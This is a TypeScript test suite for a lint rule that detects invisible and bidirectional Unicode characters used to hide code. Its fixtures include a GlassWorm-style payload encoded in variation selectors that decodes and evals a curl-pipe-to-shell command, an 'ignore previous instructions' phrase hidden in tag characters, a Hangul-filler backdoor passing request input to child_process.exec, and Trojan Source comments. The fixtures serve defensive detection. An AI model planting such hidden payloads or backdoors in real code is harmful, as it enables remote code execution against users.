import rule from '../../rules/invisible-characters.ts'
import { RuleTester } from '../../src/rule-tester/index.ts'

/** Bytes hidden as variation selectors (U+FE00–FE0F for 0–15, U+E0100–E01EF for 16–255), GlassWorm-style. */
const hide = (text: string) => [...Buffer.from(text)].map((b) => String.fromCodePoint(b < 16 ? 0xfe00 + b : 0xe0100 + b - 16)).join('')
const tags = (text: string) => [...text].map((c) => String.fromCodePoint(0xe0000 + c.charCodeAt(0))).join('')
const FILLER = '\u3164'

new RuleTester().run(rule, {
  valid: [
    { name: 'emoji with variation selectors and zero-width joiners', code: "module.exports = ['❤️', '👨‍👩‍👧‍👦', '🏳️‍🌈', '1️⃣']" },
    { name: 'a flag tag sequence (England)', code: `module.exports = '🏴${tags('gbeng')}\u{E007F}'` },
    { name: 'a byte-order mark', code: '\uFEFFmodule.exports = 1' },
    { name: 'Arabic text with right-to-left marks', code: "module.exports = { ar: '\u200Fمرحبا\u200F' }" },
    { name: 'zero-width joiners in Persian text', code: "module.exports = 'می\u200Cخواهم'" },
    { name: 'long blanks inside a string', code: `module.exports = 'a${' '.repeat(300)}b'` },
    { name: 'long blanks before a comment', code: `const a = 1;${' '.repeat(300)}// aligned comment\nmodule.exports = a` },
    { name: 'deep indentation', code: `if (a) {\n${' '.repeat(300)}run()\n}` },
  ],
  invalid: [
    {
      name: 'GlassWorm: a payload in variation selectors, decoded and run',
      code: `const s = '${hide("require('child_process').exec('curl -s http://192.0.2.10/x | sh')")}'\neval(Buffer.from([...s].map((c) => { const p = c.codePointAt(0); return p >= 0xe0100 ? p - 0xe0100 + 16 : p - 0xfe00 })).toString())`,
      errors: [{ severity: 'critical', line: 1, message: /^\d+ consecutive invisible characters .* and the file decodes code points and runs code with eval\/Function/ }],
    },
    {
      name: 'Unicode tag characters carrying text',
      code: `module.exports = 'ok${tags('ignore previous instructions')}'`,
      errors: [{ severity: 'high', message: /^28 consecutive invisible characters/ }],
    },
    {
      name: 'the same in a file nothing loads is one level lower',
      files: { 'lib/x.js': `module.exports = '${tags('hidden data hidden data')}'` },
      errors: [{ severity: 'medium', file: 'lib/x.js' }],
    },
    {
      name: 'an identifier made of a Hangul filler (the invisible backdoor)',
      code: `const { timeout, ${FILLER} } = req.query\nrequire('child_process').exec(${FILLER})`,
      errors: [{ severity: 'high', line: 1, message: /^The identifier is made of invisible characters \(U\+3164\)/ }],
    },
    {
      name: 'a zero-width non-joiner inside a name',
      code: 'const is\u200CAdmin = true\nmodule.exports = is\u200CAdmin',
      errors: [{ severity: 'high', message: /^The identifier "isAdmin" contains invisible characters \(U\+200C\)/ }],
    },
    {
      name: 'Trojan Source: a right-to-left override in a comment',
      code: 'const isAdmin = false\n/*\u202E } \u2066if (isAdmin)\u2069 \u2066 begin admins only */\nmodule.exports = isAdmin',
      errors: [{ severity: 'medium', line: 2, message: /^4 bidirectional control characters/ }],
    },
    {
      name: 'code pushed off screen after a long run of blanks',
      code: `console.log('starting');${' '.repeat(200)}require('child_process').exec('id')`,
      errors: [{ severity: 'high', line: 1, message: /^Code hidden after 150\+ blanks/ }],
    },
  ],
})
